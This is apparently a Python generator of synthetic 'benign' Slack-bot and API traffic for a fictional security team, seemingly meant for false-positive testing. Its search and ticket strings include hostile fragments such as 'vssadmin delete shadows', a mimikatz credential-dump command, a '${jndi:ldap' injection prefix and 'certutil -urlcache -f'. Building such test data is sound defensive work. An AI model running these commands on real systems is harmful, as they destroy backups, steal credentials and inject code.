    "ticket title: ⟦TITLE⟧", "ticket title: ⟦TITLE⟧", "ticket title: ⟦TITLE⟧ priority: P⟦PRI⟧",
    "ticket title: \"⟦TITLE⟧\" assignee: ⟦HANDLE⟧", "new ticket title: ⟦TITLE⟧ 🚨",
    "remind me ⟦REMIND⟧", "remind me ⟦REMIND⟧", "remind me ⟦REMIND⟧ ⏰", "pls remind me ⟦REMIND⟧",
    "search ⟦SEARCH⟧", "search ⟦SEARCH⟧", "search ⟦SEARCH⟧", "search `⟦SEARCH⟧`", "search ⟦SEARCH⟧?",
    "can you search ⟦SEARCH⟧ for me", "help", "help?", "config", "config timezone ⟦TZ⟧", "config alert_time ⟦TIME⟧",
    "config units metric", "alerts on", "alerts off", "my location", "login", "forget me",
]
TITLES = [
    "Password spraying against OWA from ⟦IP⟧ (⟦CUST⟧)", "⟦CVE⟧ exploitation attempts on ⟦PROD⟧",
    "EDR alert: powershell -enc on ⟦H⟧", "Phishing: \"Invoice overdue\" lures to finance@",
    "Rotate Splunk HEC token exposed in screenshot", "WAF FP: admin search blocks names with apostrophes",
    "Customer O'Brien & Sons — quarterly vuln report", "Suspicious Run key `OneDriveUpdate` on ⟦H⟧",
    "Impossible travel: j.o'connor Dublin → Lagos in 5 min", "Beaconing to ⟦IP⟧:443 every 60s",
    "SMBv1 still enabled on FS01 (MS17-010)", "Cert for mail.halloran.ie expires 2024-12-01",
    "Block ASN AS9009 scanners at the edge?", "Sigma rule DET-318 too noisy (SCCM)",
    "Ransomware tabletop follow-ups — 12 action items", "Honeypot: Mirai variant downloading /x86",
    "Add YARA rule for WinHTTP loader", "Confluence 8.x upgrade for ⟦CUST⟧ (⟦CVE⟧)", "Dashboard: WAF blocks by route",
    "MFA fatigue: 37 pushes to k.nakamura in 10 min", "Lost laptop LT-DEV-0913 — wipe & revoke tokens",
    "Kerberoasting: TGS requests w/ RC4 from ⟦H⟧", "DNS tunneling suspicion (TXT > 200 bytes) from ⟦H⟧",
    "Review firewall rule 10.12.0.0/16 → 10.40.8.21:5432", "Leaked .env on staging? /.env returned 200",
    "Zugangsdaten im Git-Repo gefunden (rotiert)", "Alerte RDP exposé sur 3389 chez ⟦CUST⟧",
    "Fuga de credenciales en pastebin — verificar", "Podejrzane logowania VPN z Tor exit nodes",
    "顧客からのフィッシング報告（件名：請求書）", "EDR 오탐: 백업 에이전트", "Брутфорс SSH на jump01",
]
REMINDERS = [
    "to rotate the HEC token on Friday 16:00", "in 2h to check the `fw-edge-01` ruleset diff",
    "tomorrow 09:30 CET: review ⟦CVE⟧ patch status on the PA-3220s", "at 14:00 to call ⟦CUST⟧ about ⟦T⟧",
    "to renew the cert for mail.halloran.ie before 01/12/2024", "every Monday 10am: vuln report for ⟦CUST⟧",
    "on 2024-11-22 to close ⟦T⟧ if no reply", "in 30 min: re-run the YARA scan on \\\\FS01\\share$\\Finance",
    "to submit the IR report (TLP:AMBER) by EOD", "next Tue @ 3pm to demo the new dashboard to ⟦M⟧",
    "to check if ⟦IP⟧ is still hitting us in 24h", "to buy cake for ⟦M⟧'s birthday 🎂",
    "to update the on-call sheet (Dec 23 – Jan 2) 🎄", "w piątek o 12:00 o przeglądzie reguł WAF",
    "demain à 8h : relancer le client ⟦CUST⟧", "明日10時に ⟦T⟧ の確認", "mañana a las 9:00 revisar ⟦T⟧",
    "in 15 min to take the pizza out 🍕", "to drink water 💧", "at 17:30 UTC+1 to hand over to the Kraków shift",
]
SEARCHES = [
    "⟦CVE⟧", "\"citrix bleed\" OR netscaler", "⟦IP⟧", "sha256:⟦SHA⟧", "⟦MD5⟧", "⟦T⟧",
    "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "user-agent \"⟦UA⟧\"", "index=proxy dest_port=4444",
    "kql DeviceProcessEvents | where FileName =~ \"rundll32.exe\"", "⟦MITRE⟧", "O'Brien & Sons",
    "\"impossible travel\" AND dublin", "rule 942100 false positive", "C:\\Users\\Public\\Documents\\update.dll",
    "vssadmin delete shadows", "4625 logon type 3", "mimikatz OR \"sekurlsa::logonpasswords\"",
    "/.env 200", "wp-login.php xmlrpc.php", "runbook phishing", "who owns edr-sync", "⟦CUST⟧ contract renewal",
    "ransomware playbook v3", "tabletop 2024-11-21", "AS9009", "2001:db8::/32", "10.40.8.21:5432",
    "${jndi:ldap", "`X-Forwarded-For` spoofing", "paranoia_level 2", "\"WinHTTP loader/1.0\"",
    "sigma rundll32", "Kerberoasting RC4", "DMARC p=reject", "base64 -d", "TLP:AMBER", "日本語 フィッシング",
    "Łódź office wifi", "D'Arcy Pharma", "St. Brigid's Hospital EDR rollout", "hxxps://login-m1crosoft[.]com",
]
ADMIN_SEARCHES = [
    "O'Brien & Sons", "o'brien", "O’Brien", "\"a OR b\"", "smith OR jones", "\"Anne-Marie\"", "Anne-Marie",
    "D'Angelo", "McKenzie-Ross", "Al-Farsi", "N'Diaye", "St. Clair", "Ó Briain", "L'Estrange", "müller",
    "Þórsdóttir", "jovanović", "@ravenwatch.io", "@halloran.ie", "ops+alerts@ravenwatch.io", "k.nakamura",
    "T03RVNWTCH", "U0", "2024-11-18", "18/11/2024", "11/18/24", "Nov 2024", "19.11.2024", "🦊", "🛡️ soc",
    "is:admin", "status:inactive", "name:\"D'Angelo\"", "-contractor", "contractor", "intern 2024",
    "\"de la Cruz\"", "de la cruz", "van houten", "Hernández-López", "fitzgerald", "josé", "jose", "김민지", "田中",
    "Мария", "محمد", "יעל", "Νίκος", "smith, john", "Smith; Jones", "50%", "100% remote", "#soc-floor", "R&D",
    "AT&T", "Pine & Oak", "C++ team", "a.b_c-d", "night shift (Kraków)", "j*", "?", "O'Brien OR O'Neill",
    "tier 1 / tier 2", "who=admin", "sort by name", "ravenwatch.io OR halloran.ie", "+353 1 555 0142",
    "(555) 010-4477", "+48 12 555 01 23", "Guðrún", "zuzanna", "renée", "D'Andre", "mary-kate", "e.vasquez",
]
AUDIT_SEARCHES = [
    "login", "login.failed", "login.slack", "client.rotate", "client.create", "feature.set", "weather@T03RVNWTCH",
    "user.admin", "user.active", "forget_me", "198.51.100.7", "203.0.113.45", "marta", "ops-lead",
    "\"client.disable\"", "rotate OR disable", "2024-11-18", "since:2024-11-01", "actor:soc-lead", "denied",
    "totp", "soar-playbooks", "splunk-hec:ingest", "edr-sync", "O'Sullivan", "Al-Farsi", "jeeves-admin",
]
SORTS = ["name", "-name", "created_at", "-updated_at", "email", "last_seen"]


class Ravenwatch(WebApp):
    """The company, its people and one seeded random source; each method makes one kind of request."""

    prefix = PREFIX
    epoch = EPOCH
    team, app_id, bot_user, verify_token, base = TEAM, APP_ID, BOT_USER, VERIFY_TOKEN, BASE
    ts_window, iat_window, event_window, context_bytes = (0, 11 * 3600), (0, 40000), (0, 40000), 40
    oauth_audience_rate = 0.15

    def __init__(self) -> None:
        super().__init__(SEED)
        self.people: list[dict[str, str]] = []
        for i in range(180):
            first, last = self.pick(FIRST), self.pick(LAST)
            if i % 17 == 0:
                full = self.pick(NATIVE_NAMES)
                first, last = full.split(" ", 1) if " " in full else (full, "")
            a_first = first.encode("ascii", "ignore").decode().lower().replace("'", "") or f"user{i}"
            a_last = last.encode("ascii", "ignore").decode().lower().replace(" ", "").replace("'", "")
            handle = f"{a_first[0]}.{a_last}" if a_last else a_first
            self.people.append({"id": self.sid("U0"), "name": f"{first} {last}".strip(), "handle": handle,
                                "email": f"{handle}@ravenwatch.io", "tz": self.pick(TIMEZONES)})

    def record(self, kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        self.n += 1
        return {"method": req["method"], "uri": req["uri"], "body": req["body"], "headers": req["headers"],
                "id": f"{self.prefix}-{kind}-{self.n:04d}", "category": "benign", "placement": placement}

    # ---- small random pieces -------------------------------------------------------------------------------------
    def ip(self) -> str:
        roll = self.rng.random()
        if roll < 0.3:
            return f"203.0.113.{self.rng.randint(1, 254)}"
        if roll < 0.6:
            return f"198.51.100.{self.rng.randint(1, 254)}"
        if roll < 0.75:
            return f"192.0.2.{self.rng.randint(1, 254)}"
        if roll < 0.9:
            return f"{self.pick([45, 80, 91, 185, 193, 194])}.{self.rng.randint(1, 254)}.{self.rng.randint(0, 254)}" \
                   f".{self.rng.randint(1, 254)}"
        return f"2001:db8:{self.hexs(4)}::{self.hexs(3)}"

    def person(self) -> dict[str, str]:
        person: dict[str, str] = self.pick(self.people)
        return person

    def b64_blob(self) -> str:
        text = self.pick([
            "Write-Output 'scheduled maintenance check'; Get-Service | Where-Object Status -eq 'Stopped'",
            "Start-Sleep -s 60; Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
            "$p = Get-Process -Name outlook -ErrorAction SilentlyContinue; if ($p) { 'running' }",
            "New-Item -ItemType Directory -Force -Path C:\\ProgramData\\RWAgent\\logs | Out-Null"])
        return base64.b64encode(text.encode("utf-16-le")).decode()

    def alert_time(self) -> str:
        hour = self.pick([6, 7, 7, 8, 8, 9, 12, 18, 22])
        return self.pick([f"{hour:02d}:{self.pick(['00', '15', '30', '45'])}", f"{hour}am" if hour < 12 else
                          f"{hour - 12}pm", f"{hour}:30"])

    def fill(self, text: str, slack: bool = True) -> str:
        """Placeholders to values; in Slack text, &, < and > escaped and links and mentions in Slack's markup."""
        out = slack_escape(text) if slack else text
        simple = {
            "⟦IP⟧": self.ip, "⟦DIP⟧": lambda: defang(self.ip()), "⟦CVE⟧": lambda: self.pick(CVES),
            "⟦PROD⟧": lambda: self.pick(PRODUCTS), "⟦H⟧": lambda: self.pick(HOSTS), "⟦T⟧": lambda: self.pick(TICKETS),
            "⟦SHA⟧": lambda: self.hexs(64), "⟦MD5⟧": lambda: self.hexs(32), "⟦UA⟧": lambda: self.pick(ATTACK_UAS),
            "⟦CUST⟧": lambda: self.pick(CUSTOMERS), "⟦N⟧": lambda: str(self.rng.randint(3, 480)),
            "⟦CITY⟧": lambda: self.pick(CITIES), "⟦B64⟧": self.b64_blob, "⟦MITRE⟧": lambda: self.pick(MITRE),
            "⟦TZ⟧": lambda: self.pick(TIMEZONES), "⟦TIME⟧": self.alert_time,
            "⟦PRI⟧": lambda: str(self.rng.randint(1, 4)),
            "⟦NAME⟧": lambda: self.pick([self.person()["name"], self.person()["name"].split(" ")[-1],
                                         self.pick(NATIVE_NAMES), self.person()["name"].lower()]),
            "⟦EMAIL⟧": lambda: self.person()["email"], "⟦HANDLE⟧": lambda: self.person()["handle"],
            "⟦CUSTD⟧": lambda: self.pick(["halloran.ie", "obrien-sons.co.uk", "nordlys.no", "stbrigids.ie"]),
        }
        nested = {"⟦TITLE⟧": TITLES, "⟦REMIND⟧": REMINDERS, "⟦SEARCH⟧": SEARCHES}
        for key, values in nested.items():
            while key in out:
                value = self.pick(values)
                out = out.replace(key, slack_escape(value) if slack else value, 1)
        while "⟦M⟧" in out:
            p = self.person()
            out = out.replace("⟦M⟧", f"<@{p['id']}>" if slack else "@" + p["handle"], 1)
        while "⟦L⟧" in out:
            link = self.pick(LINKS)
            label = self.pick(["", "", "", "|here", "|PR", "|the ticket", "|dashboard", "|runbook"])
            out = out.replace("⟦L⟧", f"<{link.replace('&', '&amp;')}{label}>" if slack else link, 1)
        while "⟦C⟧" in out:
            cid, cname = self.pick(CHANNELS)
            out = out.replace("⟦C⟧", f"<#{cid}|{cname}>" if slack else "#" + cname, 1)
        for key, make in simple.items():
            while key in out:
                value = make()
                out = out.replace(key, slack_escape(value) if slack else value, 1)
        return out

    def chat_text(self) -> str:
        roll = self.rng.random()
        if roll < 0.58:
            text = self.maybe_append(self.pick(CHAT), 0.3, EMOJI)
            if self.chance(0.12):
                text = self.pick(["⟦M⟧ ", "<!here> ", "cc ⟦M⟧ ", "<!subteam^S04SOCL1|@soc-leads> "]) + text
        elif roll < 0.88:
            text = self.pick(["", "", "fyi ", "seeing this on ⟦H⟧:\n", "any idea? ", "⟦M⟧ ", "from ⟦T⟧:\n"]) \
                + self.pick(CODE)
            if self.chance(0.3):
                text += "\n" + self.pick(["thoughts?", "😬", "cc ⟦M⟧", "(sanitised)", "ideas welcome 🙏",
                                          "fixed by raising the timeout"])
        else:
            text = self.pick(LONG)
        out = self.fill(text.replace("<!here>", "\x01H").replace("<!subteam^S04SOCL1|@soc-leads>", "\x01S"))
        return out.replace("\x01H", "<!here>").replace("\x01S", "<!subteam^S04SOCL1|@soc-leads>")

    def command_text(self, slack: bool = True) -> str:
        """What people type to Jeeves after the mention or after /jeeves."""
        text = self.fill(self.pick(COMMANDS), slack)
        roll = self.rng.random()
        if roll < 0.08:
            text = self.pick(["hey, ", "quick one: ", "morning! ", "sorry to bug you — "]) + text
        elif roll < 0.16:
            text += self.pick([" thanks!", " 🙏", " ?", " :pray:", " asap pls", f" (for {self.pick(TICKETS)})"])
        return text

    # ---- Slack ---------------------------------------------------------------------------------------------------
    def slack_json(self, doc: dict[str, Any]) -> str:
        """Slack's JSON: mostly its own escaping (non-ASCII as \\u, slashes as \\/), sometimes plain UTF-8."""
        if self.chance(0.8):
            return json.dumps(doc, separators=(",", ":")).replace("/", "\\/")
        return json.dumps(doc, ensure_ascii=False)

    def blocks(self, text: str) -> list[dict[str, Any]]:
        raw = text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
        elements: list[dict[str, Any]] = []
        for part in raw.split("```")[:5]:
            if part:
                elements.append({"type": "text", "text": part})
        return [{"type": "rich_text", "block_id": self.token(4)[:5],
                 "elements": [{"type": "rich_text_section", "elements": elements or [{"type": "text", "text": ""}]}]}]

    def message(self, text: str, channel: str, channel_type: str, mention: bool = False) -> dict[str, Any]:
        ts = self.ts()
        event: dict[str, Any] = {"user": self.person()["id"], "type": "app_mention" if mention else "message",
                                 "ts": ts, "client_msg_id": self.uuid(), "text": text, "team": TEAM,
                                 "channel": channel, "event_ts": ts}
        if not mention:
            event["channel_type"] = channel_type
        if self.chance(0.8):
            event["blocks"] = self.blocks(text)
        if self.chance(0.22):
            event["thread_ts"] = self.ts()
            event["parent_user_id"] = self.person()["id"]
        return event

    def event(self, event: dict[str, Any]) -> dict[str, Any]:
        return self.slack_request("/slack/events", self.slack_json(self.envelope(event)))

    def slack_verification(self) -> dict[str, Any]:
        body = json.dumps({"token": VERIFY_TOKEN, "challenge": self.token(36), "type": "url_verification"})
        return self.record("slack", "json", self.slack_request("/slack/events", body))

    def slack_chat(self) -> dict[str, Any]:
        cid, _ = self.pick(CHANNELS)
        return self.record("slack", "json", self.event(self.message(self.chat_text(), cid, "channel")))

    def slack_thread(self) -> dict[str, Any]:
        cid, _ = self.pick(CHANNELS)
        event = self.message(self.chat_text(), cid, "channel")
        event["thread_ts"] = self.ts()
        event["parent_user_id"] = self.person()["id"]
        return self.record("thread", "json", self.event(event))

    def slack_edit(self) -> dict[str, Any]:
        cid, _ = self.pick(CHANNELS)
        old = self.message(self.chat_text(), cid, "channel")
        new = self.inner(old)
        new["text"] = old["text"] + self.pick([" (edit: wrong IP, fixed)", " *", " — defanged now", ""])
        new["edited"] = {"user": old["user"], "ts": self.ts()}
        event = {"type": "message", "subtype": "message_changed", "message": new, "channel": cid, "hidden": True,
                 "previous_message": {k: v for k, v in old.items() if k not in ("channel", "channel_type")},
                 "ts": self.ts(), "event_ts": self.ts(), "channel_type": "channel"}
        return self.record("edit", "json", self.event(event))

    def slack_file(self) -> dict[str, Any]:
        cid, _ = self.pick(CHANNELS)
        name = self.pick(["pcap_ws-fin-042_2024-11-19.pcapng", "Screenshot 2024-11-19 at 08.14.55.png",
                          "IR-2024-117 timeline (draft v2).xlsx", "phish_headers.eml", "waf-blocks-24h.csv",
                          "memdump_SRV-DC01.raw.sha256", "Rapport d'incident – client Nordlys.pdf",
                          "sigma_rules.yml", "恶意样本分析.docx", "Q4 vuln report — O'Brien & Sons.pdf"])
        ext = name.rsplit(".", 1)[-1].lower()
        event = self.message(self.fill(self.pick(["", "here you go", "timeline attached, cc ⟦M⟧", "headers from the "
                                                  "phish, don't click anything 🙃", "raw export for ⟦T⟧"])),
                             cid, "channel")
        event["subtype"] = "file_share"
        fid = self.sid("F0")
        event["files"] = [{"id": fid, "created": EPOCH + 600, "name": name, "title": name,
                           "mimetype": self.pick(["application/vnd.tcpdump.pcap", "image/png", "text/csv",
                                                  "application/pdf", "message/rfc822", "text/yaml"]),
                           "filetype": ext, "pretty_type": ext.upper(), "user": event["user"],
                           "size": self.rng.randint(900, 48_000_000), "is_external": False,
                           "url_private": f"https://files.slack.com/files-pri/{TEAM}-{fid}/"
                                          + urllib.parse.quote(name),
                           "url_private_download": f"https://files.slack.com/files-pri/{TEAM}-{fid}/download/"
                                                   + urllib.parse.quote(name),
                           "permalink": f"https://{TEAM_DOMAIN}.slack.com/files/{event['user']}/{fid}/"
                                        + urllib.parse.quote(name.lower().replace(" ", "_"))}]
        return self.record("file", "json", self.event(event))

    def slack_unfurl(self) -> dict[str, Any]:
        cid, _ = self.pick(CHANNELS)
        link = self.pick(LINKS)
        domain = urllib.parse.urlsplit(link).hostname or "example.org"
        event = {"type": "link_shared", "channel": cid, "is_bot_user_member": True, "user": self.person()["id"],
                 "message_ts": self.ts(), "unfurl_id": f"C{self.sid('', 10)}.{self.ts()}.{self.hexs(64)}",
                 "thread_ts": self.ts() if self.chance(0.2) else None, "source": "conversations_history",
                 "links": [{"domain": domain, "url": link}], "event_ts": self.ts()}
        return self.record("unfurl", "json", self.event(event))

    def slack_reaction(self) -> dict[str, Any]:
        cid, _ = self.pick(CHANNELS)
        event = {"type": self.pick(["reaction_added", "reaction_added", "reaction_removed"]),
                 "user": self.person()["id"], "reaction": self.pick(REACTIONS),
                 "item": {"type": "message", "channel": cid, "ts": self.ts()}, "item_user": self.person()["id"],
                 "event_ts": self.ts()}
        return self.record("reaction", "json", self.event(event))

    def slack_bot_post(self) -> dict[str, Any]:
        cid, _ = self.pick(CHANNELS)
        n = self.rng.randint(100, 9999)
        source = self.pick(["github", "pagerduty", "jira", "sentinel", "dependabot"])
        texts = {
            "github": f"*[ravenwatch/detections]* Pull request #{n} opened by {self.person()['handle']}: <https://"
                      f"github.com/ravenwatch/detections/pull/{n}|Detect `certutil -urlcache -f` downloads>",
            "pagerduty": f"*Triggered* #{n}: [FIRING:1] WafBlockRateHigh route=admin (&gt; 50/min for 5m) "
                         f"<https://ravenwatch.pagerduty.com/incidents/Q{n}RW|View>",
            "jira": f"<https://ravenwatch.atlassian.net/browse/SOC-{n}|SOC-{n}> created: \"Brute force from "
                    f"{self.ip()} against {self.pick(HOSTS)}\" (P{self.rng.randint(1, 4)})",
            "sentinel": f":rotating_light: Sentinel incident {n}: *Suspicious PowerShell command line* on "
                        f"{self.pick(HOSTS)} — `powershell.exe -ExecutionPolicy Bypass -File C:\\Temp\\inv.ps1`",
            "dependabot": f"Bump `urllib3` from 2.2.1 to 2.2.2 in /enrich ({self.pick(CVES)}) "
                          f"<https://github.com/ravenwatch/enrich/pull/{n}|#{n}>",
        }
        ts = self.ts()
        event = {"type": "message", "subtype": "bot_message", "text": texts[source], "ts": ts, "username": source,
                 "bot_id": self.sid("B0", 9), "channel": cid, "event_ts": ts, "channel_type": "channel",
                 "attachments": [{"fallback": texts[source][:90], "color": self.pick(["d50200", "36a64f", "f2c744"]),
                                  "footer": source, "ts": EPOCH + n}]}
        return self.record("botmsg", "json", self.event(event))

    def slack_home(self) -> dict[str, Any]:
        event: dict[str, Any] = {"type": "app_home_opened", "user": self.person()["id"], "channel": self.sid("D0"),
                                 "tab": self.pick(["home", "home", "messages"]), "event_ts": self.ts()}
        if event["tab"] == "home" and self.chance(0.5):
            event["view"] = {"id": self.sid("V0"), "team_id": TEAM, "type": "home", "private_metadata": "",
                             "callback_id": "", "hash": f"{EPOCH}.{self.hexs(8)}", "blocks": [],
                             "title": {"type": "plain_text", "text": "View Title"}}
        return self.record("home", "json", self.event(event))

    def jeeves_event(self) -> dict[str, Any]:
        """A mention in a channel or a DM: a command with its argument, questions around it."""
        if self.chance(0.55):
            cid, _ = self.pick(CHANNELS)
            lead = self.pick([f"<@{BOT_USER}> ", f"<@{BOT_USER}> ", f"hey <@{BOT_USER}> ", f"<@{BOT_USER}>: ",
                              f"<@{BOT_USER}|jeeves> "])
            text = lead + self.command_text()
            if self.chance(0.1):
                text = self.command_text() + f" <@{BOT_USER}>"
            return self.record("mention", "json", self.event(self.message(text, cid, "channel", True)))
        return self.record("dm", "json", self.event(self.message(self.command_text(), self.sid("D0"), "im")))

    def jeeves_slash(self) -> dict[str, Any]:
        user = self.person()
        cid, cname = self.pick(CHANNELS + [(self.sid("D0"), "directmessage")] * 5)
        fields = [("token", VERIFY_TOKEN), ("team_id", TEAM), ("team_domain", TEAM_DOMAIN), ("channel_id", cid),
                  ("channel_name", cname), ("user_id", user["id"]), ("user_name", user["handle"]),
                  ("command", "/jeeves"), ("text", self.command_text()), ("api_app_id", APP_ID),
                  ("is_enterprise_install", "false"),
                  ("response_url", self.hook("commands", TEAM)),
                  ("trigger_id", self.trigger())]
        return self.record("command", "form", self.slack_form_request("/slack/commands", fields))

    def payload_base(self, kind: str) -> dict[str, Any]:
        user = self.person()
        return {"type": kind, "user": {"id": user["id"], "username": user["handle"], "name": user["handle"],
                                       "team_id": TEAM},
                "api_app_id": APP_ID, "token": VERIFY_TOKEN, "team": {"id": TEAM, "domain": TEAM_DOMAIN},
                "enterprise": None, "is_enterprise_install": False,
                "trigger_id": self.trigger()}

    def interaction(self) -> dict[str, Any]:
        cid, cname = self.pick(CHANNELS)
        roll = self.rng.random()
        block = self.token(4)[:5]
        if roll < 0.72:
            action = {"action_id": "set_location", "block_id": block, "type": "button", "action_ts": self.ts(),
                      "text": {"type": "plain_text", "text": "Set as my location", "emoji": True},
                      "value": self.pick(CITIES)}
        elif roll < 0.86:
            action = {"action_id": "forget_me_confirm", "block_id": block, "type": "button", "style": "danger",
                      "text": {"type": "plain_text", "text": "Yes, forget me", "emoji": True}, "value": "-",
                      "action_ts": self.ts()}
        else:
            action = {"action_id": "forget_me_cancel", "block_id": block, "type": "button", "value": "-",
                      "text": {"type": "plain_text", "text": "Cancel", "emoji": True}, "action_ts": self.ts()}
        payload = self.payload_base("block_actions")
        payload.update({"container": {"type": "message", "message_ts": self.ts(), "channel_id": cid,
                                      "is_ephemeral": self.chance(0.7)},
                        "channel": {"id": cid, "name": cname}, "state": {"values": {}},
                        "response_url": self.hook("actions", TEAM), "actions": [action]})
        body = urllib.parse.urlencode([("payload", self.slack_json(payload))])
        return self.record("interaction", "form", self.slack_request("/slack/interactions", body, form=True))

    def modal(self) -> dict[str, Any]:
        """A modal's submission (an incident form): Jeeves answers 400, it only handles block_actions."""
        payload = self.payload_base("view_submission")
        title = self.fill(self.pick(TITLES), False)
        details = self.fill(self.pick(CODE + CHAT), False)
        payload["view"] = {
            "id": self.sid("V0"), "team_id": TEAM, "type": "modal", "callback_id": "new_incident",
            "private_metadata": json.dumps({"channel": self.pick(CHANNELS)[0], "source": "shortcut"}),
            "hash": f"{EPOCH}.{self.hexs(8)}", "title": {"type": "plain_text", "text": "New incident"},
            "submit": {"type": "plain_text", "text": "Create"},
            "state": {"values": {
                "title_b": {"title": {"type": "plain_text_input", "value": title}},
                "sev_b": {"severity": {"type": "static_select", "selected_option": {
                    "text": {"type": "plain_text", "text": "P2 – high"}, "value": self.pick(["p1", "p2", "p3"])}}},
                "details_b": {"details": {"type": "plain_text_input", "value": details}},
                "cust_b": {"customer": {"type": "plain_text_input", "value": self.pick(CUSTOMERS)}},
                "due_b": {"due": {"type": "datepicker", "selected_date": "2024-11-2" + str(self.rng.randint(0, 9))}}}}}
        payload["response_urls"] = []
        body = urllib.parse.urlencode([("payload", self.slack_json(payload))])
        return self.record("modal", "form", self.slack_request("/slack/interactions", body, form=True))

    # ---- scripts, CI, SOAR and dashboards on the data API --------------------------------------------------------
    def api_headers(self) -> dict[str, str]:
        ua = self.pick(["python-requests/2.32.3", "python-httpx/0.27.2", "curl/8.10.1", "curl/7.81.0",
                        "Go-http-client/2.0", "Splunk/9.2.1 (SOAR playbook enrich_user)", "Grafana/11.3.0",
                        "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-IE) WindowsPowerShell/5.1.22621.4391",
                        "PowerShell/7.4.6", "Terraform/1.9.8", "ansible-httpget", "okhttp/4.12.0",
                        "GitHub-Actions-Runner/2.321.0", "gitlab-runner 17.5.2 (17-5-stable; go1.22; linux/amd64)",
                        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "axios/1.7.7", "Tines/1.0",
                        "Apache-HttpClient/4.5.14 (Java/21.0.5)"])
        h = {"User-Agent": ua, "Accept": self.pick(["application/json", "*/*", "application/json, text/plain, */*"]),
             "Authorization": "Bearer " + self.jwt(self.pick(["soar-playbooks", "ci-detections", "grafana-ro",
                                                               "hr-sync", "jeeves-worker", "splunk-hec:ingest"]),
                                                   self.pick(["read", "read write", "read"]))}
        if self.chance(0.5):
            h["Accept-Encoding"] = self.pick(["gzip, deflate", "gzip, deflate, br, zstd", "gzip"])
        if self.chance(0.3):
            h["traceparent"] = f"00-{self.hexs(32)}-{self.hexs(16)}-0{self.pick('01')}"
            if self.chance(0.4):
                h["tracestate"] = f"rw=t61rcWkgMzE,dd=s:1;o:rum;t.dm:-{self.rng.randint(0, 9)}"
        if self.chance(0.2):
            h["X-Request-Id"] = self.pick([self.uuid(), f"gha-{self.rng.randint(10**9, 10**10)}-2",
                                           f"soar.run.{self.hexs(10)}"])
        if self.chance(0.08):
            h["sentry-trace"] = f"{self.hexs(32)}-{self.hexs(16)}-1"
            h["baggage"] = ("sentry-environment=production,sentry-release=enrich%402.9.1,"
                            f"sentry-trace_id={self.hexs(32)}")
        return h

    def api(self) -> dict[str, Any]:
        h = self.api_headers()
        roll = self.rng.random()
        if roll < 0.3:
            params: list[tuple[str, str]] = [("limit", self.pick(["25", "50", "100", "250", "500"]))]
            if self.chance(0.6):
                params.append(("offset", str(self.pick([0, 25, 50, 100, 250, 500, 1000]))))
            for key, values in (("active", ["true", "false", "1", "0"]), ("alerts", ["on", "off", "true"]),
                                ("team_id", [TEAM, "T07PARTNER"])):
                if self.chance(0.3):
                    params.append((key, self.pick(values)))
            return self.record("api", "query", {"method": "GET", "body": "", "headers": h,
                                                "uri": "/api/users?" + urllib.parse.urlencode(params)})
        if roll < 0.48:
            return self.record("api", "path", self.get_request(f"/api/users/{self.rng.randint(1, 240)}", h))
        if roll < 0.68:
            person = self.person()
            choice = self.rng.random()
            doc: dict[str, Any]
            if choice < 0.25:
                doc = {"settings": {"timezone": person["tz"], "alert_time": self.pick(["07:00", "08:15", "06:45"])}}
            elif choice < 0.4:
                doc = {"settings": {"units": self.pick(["metric", "imperial"]), "alerts": self.chance(0.5)}}
            elif choice < 0.7:
                name = self.pick([person["name"], f"{self.pick(FIRST)} {self.pick(LAST)}", self.pick(NATIVE_NAMES),
                                  f"{self.pick(FIRST)} {self.pick(LAST)} (contractor)", "Dr. Aoife O'Reilly-Byrne"])
                doc = {"name": name, "email": person["email"]}
            elif choice < 0.85:
                doc = {"is_active": self.chance(0.3)}
            else:
                doc = {"is_admin": self.chance(0.4), "name": person["name"]}
            h["Content-Type"] = self.pick(["application/json", "application/json; charset=utf-8",
                                           "application/merge-patch+json"])
            return self.record("api", "json", {"method": "PATCH", "uri": f"/api/users/{self.rng.randint(1, 240)}",
                                               "body": json.dumps(doc, ensure_ascii=self.chance(0.4)), "headers": h})
        if roll < 0.85:
            day = self.rng.randint(1, 18)
            since = self.pick([f"2024-11-{day:02d}T00:00:00Z", f"2024-11-{day:02d}",
                               f"2024-11-{day:02d}T06:00:00+01:00", f"2024-10-{day + 10:02d}T23:59:59.999Z",
                               f"2024-11-{day:02d} 08:00:00"])
            params = [("since", since)]
            if self.chance(0.6):
                params.append(("until", self.pick(["2024-11-19T07:30:00Z", "2024-11-19", "2024-11-19T09:00:00+01:00"])))
            return self.record("api", "query", {"method": "GET", "body": "", "headers": h,
                                                "uri": "/api/usage/stats?" + urllib.parse.urlencode(params)})
        if roll < 0.93:
            return self.record("api", "header", self.get_request("/api/switches", h))
        if roll < 0.97:
            doc = {"enabled": self.chance(0.7)}
            if self.chance(0.5):
                doc["team_id"] = self.pick([TEAM, "*", "T07PARTNER"])
            h["Content-Type"] = "application/json"
            action = self.pick(["weather", "remember_location", "alerts", "config", "login", "forget_me", "help"])
            return self.record("api", "json", {"method": "PUT", "uri": f"/api/switches/{action}",
                                               "body": json.dumps(doc), "headers": h})
        h = {"User-Agent": self.pick(["openapi-generator/7.9.0", "Postman/11.19", "Insomnia/10.1.1"]),
             "Accept": "application/json"}
        return self.record("api", "header", self.get_request("/api/openapi.json", h))

    # ---- browsers ------------------------------------------------------------------------------------------------
    def browser(self, referer: str | None = None, form: bool = False, dest: str = "document") -> dict[str, str]:
        ua, brand = self.pick([
            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
             "Safari/537.36", '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"'),
            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 "
             "Safari/537.36 Edg/130.0.0.0", '"Chromium";v="130", "Microsoft Edge";v="130", "Not?A_Brand";v="99"'),
            ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/131.0.0.0 Safari/537.36", '"Brave";v="131", "Chromium";v="131", "Not_A Brand";v="24"'),
            ("Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", ""),
            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0", ""),
